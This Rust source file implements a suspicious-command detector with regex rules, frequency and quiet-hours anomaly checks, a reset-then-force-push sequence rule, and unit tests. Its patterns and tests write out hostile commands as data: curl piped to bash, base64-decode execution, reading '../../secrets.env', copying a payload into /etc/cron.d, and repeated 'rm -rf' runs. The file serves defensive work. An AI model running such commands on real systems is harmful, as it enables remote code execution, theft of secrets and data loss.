// patterns.rs — SuspiciousPatternDetector: rule hits and behavioural anomalies.
//
// Every operation passes through `analyze()`, which appends it to a bounded
// ring buffer of recent history and then evaluates:
//
// - content rules (regex or length) on the operation's own command line
// - history rules: frequency bursts, activity in the quiet-hours window,
//   and dangerous sequences within one session (hard reset, then force push)
//
// Each rule kind has a fixed severity and confidence. Hits combine with a
// noisy-OR, and the operation is suspicious when there is at least one hit
// and the combined confidence exceeds 0.5.
//
// Time windows use the operations' own timestamps, not the wall clock, so a
// replayed log produces the same verdicts.

use std::collections::VecDeque;
use std::fmt;

use chrono::{DateTime, Duration as ChronoDuration, Local, Timelike, Utc};
use parking_lot::Mutex;
use regex::Regex;
use serde::{Deserialize, Serialize};

use tg_policy::{has_destructive_marker, Operation};

use crate::error::GuardError;

/// How bad a hit is.
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[serde(rename_all = "UPPERCASE")]
pub enum Severity {
    Low,
    Medium,
    High,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Severity::Low => write!(f, "LOW"),
            Severity::Medium => write!(f, "MEDIUM"),
            Severity::High => write!(f, "HIGH"),
        }
    }
}

/// The closed set of things the detector looks for.
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
#[serde(rename_all = "snake_case")]
pub enum RuleKind {
    /// `curl ... | sh` and friends.
    PipeToShell,
    /// `../` segments.
    PathTraversal,
    /// Paths under /etc, /usr, /bin, ...
    SystemDirectory,
    /// `eval`, `base64 -d`, hex-escaped payloads.
    EncodedExecution,
    /// Command line longer than the configured limit.
    OversizedCommand,
    /// Hard reset followed by a force push in the same session.
    DangerousCombination,
    /// The same command repeated too often in a short window.
    FrequencyAnomaly,
    /// Bursty activity during the quiet-hours window.
    TimeOfDayAnomaly,
}

impl RuleKind {
    /// Severity for kinds with a fixed severity. Frequency anomalies depend
    /// on the command and are resolved in `analyze()`.
    pub fn severity(self) -> Severity {
        match self {
            RuleKind::PipeToShell => Severity::High,
            RuleKind::PathTraversal => Severity::Medium,
            RuleKind::SystemDirectory => Severity::High,
            RuleKind::EncodedExecution => Severity::High,
            RuleKind::OversizedCommand => Severity::Medium,
            RuleKind::DangerousCombination => Severity::High,
            RuleKind::FrequencyAnomaly => Severity::Medium,
            RuleKind::TimeOfDayAnomaly => Severity::Medium,
        }
    }

    pub fn confidence(self) -> f64 {
        match self {
            RuleKind::PipeToShell => 0.9,
            RuleKind::PathTraversal => 0.6,
            RuleKind::SystemDirectory => 0.7,
            RuleKind::EncodedExecution => 0.7,
            RuleKind::OversizedCommand => 0.6,
            RuleKind::DangerousCombination => 0.8,
            RuleKind::FrequencyAnomaly => 0.7,
            RuleKind::TimeOfDayAnomaly => 0.55,
        }
    }
}

impl fmt::Display for RuleKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            RuleKind::PipeToShell => "pipe-to-shell execution",
            RuleKind::PathTraversal => "path traversal",
            RuleKind::SystemDirectory => "system directory access",
            RuleKind::EncodedExecution => "encoded execution",
            RuleKind::OversizedCommand => "oversized command",
            RuleKind::DangerousCombination => "dangerous combination",
            RuleKind::FrequencyAnomaly => "frequency anomaly",
            RuleKind::TimeOfDayAnomaly => "time-of-day anomaly",
        };
        write!(f, "{}", s)
    }
}

/// One rule that fired.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct PatternHit {
    pub kind: RuleKind,
    pub severity: Severity,
    pub confidence: f64,
    pub detail: String,
}

impl PatternHit {
    fn new(kind: RuleKind, detail: impl Into<String>) -> Self {
        Self {
            kind,
            severity: kind.severity(),
            confidence: kind.confidence(),
            detail: detail.into(),
        }
    }
}

/// The detector's verdict on one operation.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct SuspicionReport {
    pub hits: Vec<PatternHit>,
    /// Noisy-OR of the hit confidences.
    pub confidence: f64,
    /// Highest hit severity.
    pub severity: Option<Severity>,
    pub is_suspicious: bool,
}

impl SuspicionReport {
    fn from_hits(hits: Vec<PatternHit>) -> Self {
        let confidence = 1.0 - hits.iter().map(|h| 1.0 - h.confidence).product::<f64>();
        let severity = hits.iter().map(|h| h.severity).max();
        Self {
            is_suspicious: !hits.is_empty() && confidence > 0.5,
            confidence: if hits.is_empty() { 0.0 } else { confidence },
            severity,
            hits,
        }
    }

    /// "path traversal (../etc), oversized command (812 chars)"
    pub fn summary(&self) -> String {
        self.hits
            .iter()
            .map(|h| format!("{} ({})", h.kind, h.detail))
            .collect::<Vec<_>>()
            .join(", ")
    }
}

/// Detector thresholds.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct DetectorConfig {
    /// Ring buffer size.
    pub history_size: usize,
    /// More than this many identical commands within the window is a burst.
    pub frequency_threshold: usize,
    pub frequency_window_secs: i64,
    /// Quiet hours, local time, `[start, end)`.
    pub quiet_hours_start: u32,
    pub quiet_hours_end: u32,
    /// More than this many operations within the window during quiet hours.
    pub quiet_hours_threshold: usize,
    pub quiet_hours_window_secs: i64,
    pub max_command_length: usize,
    /// How far apart a hard reset and a force push may be.
    pub combination_window_secs: i64,
}

impl Default for DetectorConfig {
    fn default() -> Self {
        Self {
            history_size: 1000,
            frequency_threshold: 20,
            frequency_window_secs: 60,
            quiet_hours_start: 2,
            quiet_hours_end: 5,
            quiet_hours_threshold: 10,
            quiet_hours_window_secs: 300,
            max_command_length: 500,
            combination_window_secs: 600,
        }
    }
}

struct HistoryEntry {
    normalized: String,
    session_id: String,
    timestamp: DateTime<Utc>,
    hard_reset: bool,
}

struct ContentRule {
    kind: RuleKind,
    pattern: Regex,
}

/// Bounded-memory anomaly detector, safe to share across threads.
pub struct SuspiciousPatternDetector {
    config: DetectorConfig,
    rules: Vec<ContentRule>,
    history: Mutex<VecDeque<HistoryEntry>>,
}

impl SuspiciousPatternDetector {
    pub fn new(config: DetectorConfig) -> Result<Self, GuardError> {
        let rule = |kind, pattern: &str| -> Result<ContentRule, GuardError> {
            Ok(ContentRule {
                kind,
                pattern: Regex::new(pattern)?,
            })
        };
        let rules = vec![
            rule(
                RuleKind::PipeToShell,
                r"\b(curl|wget|fetch)\b[^|]*\|\s*(sudo\s+)?(ba|z|k|da)?sh\b",
            )?,
            rule(RuleKind::PathTraversal, r#"(^|[\s/'"=])\.\.(/|\\)"#)?,
            rule(
                RuleKind::SystemDirectory,
                r#"(^|[\s'"=:])(/etc|/usr|/bin|/sbin|/boot|/sys|/proc|/root|/var/lib|c:\\windows)(/|\\|\s|$)"#,
            )?,
            rule(
                RuleKind::EncodedExecution,
                r"\beval\b|\bbase64\s+(-d|--decode)\b|(\\x[0-9a-f]{2}){4,}",
            )?,
        ];
        Ok(Self {
            config,
            rules,
            history: Mutex::new(VecDeque::new()),
        })
    }

    pub fn config(&self) -> &DetectorConfig {
        &self.config
    }

    /// Record the operation and report what (if anything) is suspicious about it.
    pub fn analyze(&self, op: &Operation) -> SuspicionReport {
        let normalized = op.normalized();
        let mut hits: Vec<PatternHit> = Vec::new();

        for rule in &self.rules {
            if let Some(m) = rule.pattern.find(&normalized) {
                hits.push(PatternHit::new(rule.kind, m.as_str().trim()));
            }
        }

        let length = op.command_line().chars().count();
        if length > self.config.max_command_length {
            hits.push(PatternHit::new(
                RuleKind::OversizedCommand,
                format!("{} chars", length),
            ));
        }

        let mut history = self.history.lock();
        history.push_back(HistoryEntry {
            normalized: normalized.clone(),
            session_id: op.context.session_id.clone(),
            timestamp: op.timestamp,
            hard_reset: is_hard_reset(&normalized),
        });
        while history.len() > self.config.history_size.max(1) {
            history.pop_front();
        }

        if is_force_push(&normalized) {
            let window = ChronoDuration::seconds(self.config.combination_window_secs);
            let reset = history.iter().rev().skip(1).any(|e| {
                e.hard_reset
                    && e.session_id == op.context.session_id
                    && e.timestamp <= op.timestamp
                    && op.timestamp - e.timestamp <= window
            });
            if reset {
                hits.push(PatternHit::new(
                    RuleKind::DangerousCombination,
                    "force push after hard reset",
                ));
            }
        }

        let window = ChronoDuration::seconds(self.config.frequency_window_secs);
        let repeats = history
            .iter()
            .filter(|e| e.normalized == normalized && within(e.timestamp, op.timestamp, window))
            .count();
        if repeats > self.config.frequency_threshold {
            let mut hit = PatternHit::new(
                RuleKind::FrequencyAnomaly,
                format!(
                    "{} repeats in {}s",
                    repeats, self.config.frequency_window_secs
                ),
            );
            if has_destructive_marker(op) {
                hit.severity = Severity::High;
            }
            hits.push(hit);
        }

        let hour = op.timestamp.with_timezone(&Local).hour();
        if self.in_quiet_hours(hour) {
            let window = ChronoDuration::seconds(self.config.quiet_hours_window_secs);
            let recent = history
                .iter()
                .filter(|e| within(e.timestamp, op.timestamp, window))
                .count();
            if recent > self.config.quiet_hours_threshold {
                hits.push(PatternHit::new(
                    RuleKind::TimeOfDayAnomaly,
                    format!("{} operations at {:02}:00 local", recent, hour),
                ));
            }
        }
        drop(history);

        SuspicionReport::from_hits(hits)
    }

    /// Number of operations currently remembered.
    pub fn history_len(&self) -> usize {
        self.history.lock().len()
    }

    fn in_quiet_hours(&self, hour: u32) -> bool {
        let (start, end) = (self.config.quiet_hours_start, self.config.quiet_hours_end);
        if start <= end {
            hour >= start && hour < end
        } else {
            // Window wraps midnight, e.g. 23..4.
            hour >= start || hour < end
        }
    }
}

/// `earlier` is at most `window` before `now` (and not after it).
fn within(earlier: DateTime<Utc>, now: DateTime<Utc>, window: ChronoDuration) -> bool {
    earlier <= now && now - earlier <= window
}

fn is_hard_reset(normalized: &str) -> bool {
    normalized.contains("reset") && normalized.split_whitespace().any(|t| t == "--hard")
}

fn is_force_push(normalized: &str) -> bool {
    let tokens: Vec<&str> = normalized.split_whitespace().collect();
    tokens.contains(&"push")
        && tokens
            .iter()
            .any(|t| *t == "--force" || *t == "-f" || t.starts_with("--force-with-lease"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;
    use tg_policy::{OperationContext, OperationType};

    fn detector() -> SuspiciousPatternDetector {
        SuspiciousPatternDetector::new(DetectorConfig::default()).unwrap()
    }

    fn op(command: &str, args: &[&str]) -> Operation {
        Operation::new(
            OperationType::Cli,
            command,
            args.iter().copied(),
            OperationContext::new("/repo", "dev", "session-1234"),
        )
    }

    /// A fixed daytime instant, so quiet-hours rules stay out of the way.
    fn noon() -> DateTime<Utc> {
        Local
            .with_ymd_and_hms(2026, 3, 10, 12, 0, 0)
            .single()
            .unwrap()
            .with_timezone(&Utc)
    }

    #[test]
    fn benign_command_has_no_hits() {
        let report = detector().analyze(&op("git", &["status"]).at(noon()));
        assert!(report.hits.is_empty());
        assert!(!report.is_suspicious);
        assert_eq!(report.confidence, 0.0);
    }

    #[test]
    fn pipe_to_shell_is_high() {
        let report = detector().analyze(&op("curl", &["-sSL", "https://x.sh", "|", "bash"]).at(noon()));
        assert!(report.is_suspicious);
        assert_eq!(report.severity, Some(Severity::High));
        assert_eq!(report.hits[0].kind, RuleKind::PipeToShell);
    }

    #[test]
    fn path_traversal_is_medium() {
        let report = detector().analyze(&op("cat", &["../../secrets.env"]).at(noon()));
        assert!(report.is_suspicious);
        assert_eq!(report.severity, Some(Severity::Medium));
    }

    #[test]
    fn system_directory_access() {
        let report = detector().analyze(&op("cp", &["payload", "/etc/cron.d/x"]).at(noon()));
        assert!(report.hits.iter().any(|h| h.kind == RuleKind::SystemDirectory));
        // A project path that merely contains "etc" is fine.
        let report = detector().analyze(&op("cat", &["src/etc/config.rs"]).at(noon()));
        assert!(report.hits.is_empty());
    }

    #[test]
    fn encoded_execution() {
        let report = detector().analyze(&op("sh", &["-c", "echo aGk= | base64 -d"]).at(noon()));
        assert!(report.hits.iter().any(|h| h.kind == RuleKind::EncodedExecution));
    }

    #[test]
    fn oversized_command() {
        let long = "a".repeat(600);
        let report = detector().analyze(&op("echo", &[long.as_str()]).at(noon()));
        assert_eq!(report.hits[0].kind, RuleKind::OversizedCommand);
        assert!(report.is_suspicious);
    }

    #[test]
    fn reset_then_force_push_same_session() {
        let d = detector();
        d.analyze(&op("git", &["reset", "--hard", "HEAD~3"]).at(noon()));
        let report = d.analyze(
            &op("git", &["push", "--force"]).at(noon() + ChronoDuration::seconds(30)),
        );
        assert!(report
            .hits
            .iter()
            .any(|h| h.kind == RuleKind::DangerousCombination));
        assert_eq!(report.severity, Some(Severity::High));
    }

    #[test]
    fn force_push_in_other_session_is_not_a_combination() {
        let d = detector();
        d.analyze(&op("git", &["reset", "--hard"]).at(noon()));
        let mut other = op("git", &["push", "--force"]).at(noon());
        other.context.session_id = "another-session".to_string();
        assert!(d.analyze(&other).hits.is_empty());
    }

    #[test]
    fn destructive_burst_is_high() {
        let d = detector();
        let mut last = SuspicionReport::default();
        for i in 0..21 {
            last = d.analyze(
                &op("rm", &["-rf", "build"]).at(noon() + ChronoDuration::seconds(i)),
            );
            if i < 20 {
                assert!(!last.is_suspicious, "flagged too early at {}", i);
            }
        }
        assert!(last.is_suspicious);
        assert_eq!(last.severity, Some(Severity::High));
        assert_eq!(last.hits[0].kind, RuleKind::FrequencyAnomaly);
    }

    #[test]
    fn benign_burst_is_medium() {
        let d = detector();
        let mut last = SuspicionReport::default();
        for i in 0..21 {
            last = d.analyze(&op("ls", &[]).at(noon() + ChronoDuration::seconds(i)));
        }
        assert_eq!(last.severity, Some(Severity::Medium));
    }

    #[test]
    fn spread_out_repeats_are_fine() {
        let d = detector();
        for i in 0..40 {
            let report =
                d.analyze(&op("ls", &[]).at(noon() + ChronoDuration::seconds(i * 10)));
            assert!(report.hits.is_empty());
        }
    }

    #[test]
    fn quiet_hours_burst() {
        let d = detector();
        let three_am = Local
            .with_ymd_and_hms(2026, 3, 10, 3, 0, 0)
            .single()
            .unwrap()
            .with_timezone(&Utc);
        let mut last = SuspicionReport::default();
        for i in 0..11 {
            last = d.analyze(
                &op("cat", &[format!("file{}", i).as_str()])
                    .at(three_am + ChronoDuration::seconds(i)),
            );
        }
        assert!(last.hits.iter().any(|h| h.kind == RuleKind::TimeOfDayAnomaly));
        assert!(last.is_suspicious);
    }

    #[test]
    fn history_is_bounded() {
        let d = SuspiciousPatternDetector::new(DetectorConfig {
            history_size: 5,
            ..DetectorConfig::default()
        })
        .unwrap();
        for i in 0..20 {
            d.analyze(&op("ls", &[]).at(noon() + ChronoDuration::seconds(i * 100)));
        }
        assert_eq!(d.history_len(), 5);
    }

    #[test]
    fn noisy_or_combines_hits() {
        let report = SuspicionReport::from_hits(vec![
            PatternHit::new(RuleKind::PathTraversal, "a"),
            PatternHit::new(RuleKind::OversizedCommand, "b"),
        ]);
        assert!((report.confidence - 0.84).abs() < 1e-9);
        assert!(report.summary().contains("path traversal (a)"));
    }
}
